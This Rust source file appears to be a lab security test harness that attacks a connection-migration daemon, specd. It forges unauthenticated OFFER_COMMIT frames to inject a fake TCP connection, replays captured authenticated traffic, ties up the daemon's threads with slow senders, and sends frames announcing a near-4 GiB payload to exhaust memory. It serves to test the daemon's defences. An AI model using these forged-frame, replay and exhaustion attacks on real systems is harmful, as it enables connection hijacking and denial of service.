//! Attacks on specd's migration port (b1's target side, `SPECD_PORT`): a forged offer
//! from a host that is not a peer, the same from the peer's own address (a tenant of
//! the peer's host, or a host that took the peer's address over on the segment)
//! without the key, a captured authenticated offer replayed, slow senders holding the
//! target's threads, and a frame announcing a huge payload.
//!
//! Success is judged by effect: the target answered the forged or replayed frame (it
//! was taken as a peer's: a target that refuses closes the connection without a
//! byte), a connection with the offered client address appeared in b1's socket table
//! (restored), the attacker still holds every thread after the deadlines, specd's
//! memory grew by what the announced length asked for.
//!
//! The offer is written from the wire's documentation (`crates/migrate/src/wire.rs`),
//! as an attacker would: version 3 (unauthenticated) OFFER_COMMIT of a connection
//! VIP:80 ↔ a client outside the cluster, carrying a request in its receive queue.

use std::io::{self, Read, Write};
use std::net::{Ipv4Addr, Shutdown, SocketAddr, SocketAddrV4, TcpStream};
use std::time::{Duration, Instant};

use super::dc::{Dc, B0, B1, SPECD_PORT, VIP};
use super::outcome::Outcome;
use super::raw::{Packet, Sniffer, PROTO_TCP};

/// The client address of a forged offer (TEST-NET-2: no host of the lab has it).
pub const FORGED_CLIENT: SocketAddrV4 = SocketAddrV4::new(Ipv4Addr::new(198, 51, 100, 7), 40_000);
/// How long the attacker waits for the target's answer to a frame.
const ANSWER_WAIT: Duration = Duration::from_secs(2);
/// Connections the slow senders open: more than specd's target threads
/// (`TARGET_THREADS_DEFAULT`, 32), so that holding them all would starve the peers.
pub const SLOW_CONNS: usize = 40;
/// specd's target threads by default (the success bar of the slow senders).
const TARGET_THREADS: usize = 32;
/// A slow sender's pace: one byte per period.
const SLOW_BYTE_PERIOD: Duration = Duration::from_millis(500);
/// How long the slow senders hold on: past specd's idle timeout (3 s) and message
/// deadline (4 s) with a margin.
const SLOW_HOLD: Duration = Duration::from_secs(9);
/// `--quick`: past the idle timeout only.
const SLOW_HOLD_QUICK: Duration = Duration::from_secs(5);
/// The announced payload of the huge-length frame (bytes): near 4 GiB.
const HUGE_LEN: u32 = 0xffff_fff0;
/// specd's memory growth that counts as the huge length taking effect: 64 MiB, far
/// above a daemon's jitter and far below what the frame announces.
const HUGE_RSS_GROWTH_MIN_KB: u64 = 64 << 10;
/// How long the huge-length connections stay open before specd's memory is read.
const HUGE_HOLD: Duration = Duration::from_secs(2);
/// Most captured bytes replayed (the first frames of one control connection).
const REPLAY_BYTES_MAX: usize = 256 << 10;

/// What the capture phase kept of specd's traffic: the byte stream of one control
/// connection b0 → b1 (authenticated frames), if b0 migrated anything.
#[derive(Default)]
pub struct SpecdCapture {
    pub stream: Vec<u8>,
    pub connections: usize,
}

/// The longest b0 → b1 control connection seen by `s`, reassembled in sequence order.
pub fn capture(s: &Sniffer, b0: Ipv4Addr, b1: Ipv4Addr) -> SpecdCapture {
    let segs = s.matching(|p| {
        p.proto == PROTO_TCP
            && p.src == b0
            && p.dst == b1
            && p.dport == SPECD_PORT
            && !p.payload.is_empty()
    });
    let mut by_port: std::collections::BTreeMap<u16, Vec<Packet>> = Default::default();
    for p in segs {
        by_port.entry(p.sport).or_default().push(p);
    }
    let connections = by_port.len();
    let stream = by_port
        .into_values()
        .map(|mut v| {
            v.sort_by_key(|p| p.tcp_seq);
            v.dedup_by_key(|p| p.tcp_seq);
            let mut out = Vec::new();
            for p in v {
                out.extend_from_slice(&p.payload);
            }
            out
        })
        .max_by_key(Vec::len)
        .unwrap_or_default();
    SpecdCapture {
        stream,
        connections,
    }
}

/// The payload of an offer: the TCP state of VIP:80 ↔ `client` with `request` queued.
pub fn forged_state(client: SocketAddrV4, request: &[u8]) -> Vec<u8> {
    let mut p = vec![4u8];
    p.extend_from_slice(&VIP.ip().octets());
    p.extend_from_slice(&VIP.port().to_be_bytes());
    p.extend_from_slice(&client.ip().octets());
    p.extend_from_slice(&client.port().to_be_bytes());
    for v in [0x1000_0000u32, 0x2000_0000, 1_000] {
        p.extend_from_slice(&v.to_be_bytes()); // snd_seq, rcv_seq, timestamp
    }
    p.extend_from_slice(&1460u16.to_be_bytes());
    p.extend_from_slice(&[0, 0, 0]); // no options, wscales 0
    for v in [0x1000_0000u32, 64_240, 64_240, 64_240, 0x2000_0000] {
        p.extend_from_slice(&v.to_be_bytes()); // windows
    }
    for v in [87_380u32, 87_380, 0, 0] {
        p.extend_from_slice(&v.to_be_bytes()); // sndbuf, rcvbuf, unsent_len, send_len
    }
    p.extend_from_slice(&(request.len() as u32).to_be_bytes());
    p.extend_from_slice(request);
    p
}

/// A version-3 (unauthenticated) frame.
pub fn frame_v3(kind: u8, payload: &[u8]) -> Vec<u8> {
    let mut f = b"FSMG".to_vec();
    f.push(3);
    f.push(kind);
    f.extend_from_slice(&(payload.len() as u32).to_be_bytes());
    f.extend_from_slice(payload);
    f
}

/// OFFER_COMMIT: restore at once (kind 9).
const KIND_OFFER_COMMIT: u8 = 9;

pub(crate) fn forged_offer() -> Vec<u8> {
    frame_v3(
        KIND_OFFER_COMMIT,
        &forged_state(
            FORGED_CLIENT,
            b"GET /index.html HTTP/1.1\r\nHost: lab\r\n\r\n",
        ),
    )
}

/// Send `bytes` to b1's specd from `node` and wait for an answer: `Some(n)` bytes
/// answered, `None` if the target closed without a byte (refused).
fn send_and_listen(dc: &Dc, node: &str, bytes: &[u8]) -> io::Result<(usize, String)> {
    let to = SocketAddr::V4(dc.specd_addr(B1));
    let bytes = bytes.to_vec();
    dc.dc.run_in_ns(node, move || {
        let mut s = match TcpStream::connect_timeout(&to, ANSWER_WAIT) {
            Ok(s) => s,
            Err(e) => return Ok((0, format!("connect refused: {e}"))),
        };
        s.set_read_timeout(Some(ANSWER_WAIT))?;
        let wrote = s.write_all(&bytes);
        let mut buf = vec![0u8; 4096];
        let mut got = 0;
        let end = loop {
            match s.read(&mut buf) {
                Ok(0) => break "closed by the target".to_string(),
                Ok(n) => got += n,
                Err(e)
                    if e.kind() == io::ErrorKind::WouldBlock
                        || e.kind() == io::ErrorKind::TimedOut =>
                {
                    break "no answer".to_string()
                }
                Err(e) => break format!("{e}"),
            }
        };
        let w = match wrote {
            Ok(()) => String::new(),
            Err(e) => format!(" (write: {e})"),
        };
        Ok((got, format!("{end}{w}")))
    })
}

/// Whether `node` has a TCP socket whose remote is `remote` (`/proc/net/tcp` of its
/// namespace).
pub fn has_socket(dc: &Dc, node: &str, remote: SocketAddrV4) -> io::Result<bool> {
    let hex = format!(
        "{:08X}:{:04X}",
        u32::from_ne_bytes(remote.ip().octets()),
        remote.port()
    );
    dc.dc.run_in_ns(node, move || {
        let t = std::fs::read_to_string("/proc/thread-self/net/tcp")?;
        Ok(t.lines()
            .skip(1)
            .any(|l| l.split_whitespace().nth(2) == Some(hex.as_str())))
    })
}

fn offer_outcome(dc: &Dc, from: &str, what: &str) -> io::Result<Outcome> {
    let offer = forged_offer();
    let (answered, end) = send_and_listen(dc, from, &offer)?;
    std::thread::sleep(Duration::from_millis(200));
    let restored = has_socket(dc, B1, FORGED_CLIENT)?;
    Ok(Outcome {
        succeeded: answered > 0 || restored,
        effect: format!(
            "{what}: target answered {answered} B ({end}); forged connection restored: {restored}"
        ),
        packets: 1,
        bytes: offer.len() as u64,
        answered_bytes: answered as u64,
        tested: true,
    })
}

/// A forged offer from the cluster attacker's own address (not a peer).
pub fn offer_from_non_peer(dc: &Dc) -> io::Result<Outcome> {
    offer_outcome(dc, super::dc::ATK, "offer from a non-peer")
}

/// The same offer from the peer's address (b0's namespace), without the key.
pub fn offer_from_peer_address(dc: &Dc) -> io::Result<Outcome> {
    offer_outcome(dc, B0, "unauthenticated offer from the peer's address")
}

/// The captured control connection's bytes replayed from the peer's address.
pub fn replay(dc: &Dc, cap: &SpecdCapture) -> io::Result<Outcome> {
    if cap.stream.is_empty() {
        return Ok(Outcome::untested(
            "no migration was captured (b0 did not migrate during the capture burst)",
        ));
    }
    let bytes = &cap.stream[..cap.stream.len().min(REPLAY_BYTES_MAX)];
    let (answered, end) = send_and_listen(dc, B0, bytes)?;
    Ok(Outcome {
        succeeded: answered > 0,
        effect: format!(
            "replayed {} B of a captured control connection ({} captured): target answered \
             {answered} B ({end})",
            bytes.len(),
            cap.connections
        ),
        packets: 1,
        bytes: bytes.len() as u64,
        answered_bytes: answered as u64,
        tested: true,
    })
}

/// Whether the target has closed `s` (EOF or reset seen on a non-blocking peek).
pub(crate) fn closed(s: &TcpStream) -> bool {
    let _ = s.set_nonblocking(true);
    let mut b = [0u8; 1];
    let r = match s.peek(&mut b) {
        Ok(0) => true,
        Ok(_) => false,
        Err(e) => e.kind() != io::ErrorKind::WouldBlock,
    };
    let _ = s.set_nonblocking(false);
    r
}

/// [`SLOW_CONNS`] connections from the peer's address, each dribbling a byte of a
/// frame header every [`SLOW_BYTE_PERIOD`]: how many still stand after the hold.
pub fn slow_senders(dc: &Dc, quick: bool) -> io::Result<Outcome> {
    let to = SocketAddr::V4(dc.specd_addr(B1));
    let mut conns: Vec<TcpStream> = dc.dc.run_in_ns(B0, move || {
        Ok((0..SLOW_CONNS)
            .filter_map(|_| TcpStream::connect_timeout(&to, ANSWER_WAIT).ok())
            .collect())
    })?;
    let opened = conns.len();
    let header = b"FSMG\x04\x01\x00\x00\x10\x00";
    let hold = if quick { SLOW_HOLD_QUICK } else { SLOW_HOLD };
    let t0 = Instant::now();
    let mut sent = 0u64;
    let mut i = 0;
    while t0.elapsed() < hold {
        for s in conns.iter_mut() {
            if s.write_all(&header[i % header.len()..][..1]).is_ok() {
                sent += 1;
            }
        }
        i += 1;
        std::thread::sleep(SLOW_BYTE_PERIOD);
    }
    let standing = conns.iter().filter(|s| !closed(s)).count();
    for s in &conns {
        let _ = s.shutdown(Shutdown::Both);
    }
    Ok(Outcome {
        succeeded: standing >= TARGET_THREADS,
        effect: format!(
            "{opened} of {SLOW_CONNS} connections opened from the peer's address, {standing} still \
             held after {:.0} s of one byte per {} ms (target threads: {TARGET_THREADS})",
            hold.as_secs_f64(),
            SLOW_BYTE_PERIOD.as_millis()
        ),
        packets: sent,
        bytes: sent,
        answered_bytes: 0,
        tested: true,
    })
}

/// Resident and peak memory of a process, KiB.
fn rss_kb(pid: u32) -> Option<(u64, u64)> {
    let s = std::fs::read_to_string(format!("/proc/{pid}/status")).ok()?;
    let field = |k: &str| {
        s.lines()
            .find(|l| l.starts_with(k))
            .and_then(|l| l.split_whitespace().nth(1))
            .and_then(|v| v.parse().ok())
    };
    Some((field("VmRSS:")?, field("VmHWM:")?))
}

/// Frames announcing [`HUGE_LEN`] payload bytes (unauthenticated and behind an
/// envelope-sized prefix), sent from the peer's address and held open: specd's
/// memory before and after.
pub fn huge_length(dc: &Dc) -> io::Result<Outcome> {
    let pid = dc
        .pid_of("specd-b1")
        .ok_or_else(|| io::Error::other("specd-b1 is not running"))?;
    let (rss0, _) = rss_kb(pid).unwrap_or((0, 0));
    let mut v3 = b"FSMG\x03\x01".to_vec();
    v3.extend_from_slice(&HUGE_LEN.to_be_bytes());
    v3.extend_from_slice(&[0u8; 1024]);
    let mut v4 = vec![0u8; 32];
    v4.extend_from_slice(b"FSMG\x04\x01");
    v4.extend_from_slice(&HUGE_LEN.to_be_bytes());
    v4.extend_from_slice(&[0u8; 1024]);
    let to = SocketAddr::V4(dc.specd_addr(B1));
    let frames = [v3, v4];
    let sent: usize = frames.iter().map(Vec::len).sum();
    let conns: Vec<TcpStream> = {
        let frames = frames.clone();
        dc.dc.run_in_ns(B0, move || {
            Ok(frames
                .iter()
                .filter_map(|f| {
                    let mut s = TcpStream::connect_timeout(&to, ANSWER_WAIT).ok()?;
                    s.write_all(f).ok()?;
                    Some(s)
                })
                .collect())
        })?
    };
    std::thread::sleep(HUGE_HOLD);
    let after = rss_kb(pid);
    let standing = conns.iter().filter(|s| !closed(s)).count();
    drop(conns);
    let (succeeded, effect) = match after {
        None => (true, "specd-b1 died".to_string()),
        Some((rss1, hwm)) => (
            rss1.saturating_sub(rss0) >= HUGE_RSS_GROWTH_MIN_KB
                || hwm.saturating_sub(rss0) >= HUGE_RSS_GROWTH_MIN_KB,
            format!(
                "announced {HUGE_LEN} B twice: specd RSS {rss0} → {rss1} KiB (peak {hwm} KiB); \
                 {standing} of 2 connections still open after {} s",
                HUGE_HOLD.as_secs()
            ),
        ),
    };
    Ok(Outcome {
        succeeded,
        effect,
        packets: 2,
        bytes: sent as u64,
        answered_bytes: 0,
        tested: true,
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn forged_offer_has_the_documented_layout() {
        let st = forged_state(FORGED_CLIENT, b"GET");
        // family, two v4 addresses, 3 u32, mss, 3 u8, 5 windows, 4 u32, recv len.
        assert_eq!(st.len(), 1 + 12 + 12 + 2 + 3 + 20 + 16 + 4 + 3);
        let f = frame_v3(KIND_OFFER_COMMIT, &st);
        assert_eq!(&f[..6], b"FSMG\x03\x09");
        assert_eq!(
            u32::from_be_bytes(f[6..10].try_into().unwrap()) as usize,
            st.len()
        );
    }
}
